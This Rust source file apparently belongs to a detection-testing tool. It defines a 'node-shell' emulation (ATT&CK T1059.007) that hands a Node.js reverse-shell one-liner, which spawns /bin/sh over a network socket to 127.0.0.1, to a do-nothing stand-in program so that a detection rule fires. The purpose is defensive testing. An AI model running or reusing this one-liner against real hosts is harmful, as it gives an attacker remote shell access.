//! Node's one-liner, given to a program that does nothing.

use crate::{
    Emulation,
    stage::{Failure, Stage},
};

pub(crate) const EMULATION: Emulation = Emulation {
    id: "node-shell",
    title: "Node.js told to tie a shell to the network",
    technique: "T1059.007",
    technique_v18: None,
    needs: &[],
    rules: &["Node.js handing out a shell"],
    act,
};

fn act(stage: &Stage) -> Result<(), Failure> {
    stage.pretend(
        "node",
        &[
            "-e",
            "require('child_process').spawn('/bin/sh',[],{stdio:[require('net').connect(9,'127.0.0.1')]})",
        ],
    )
}
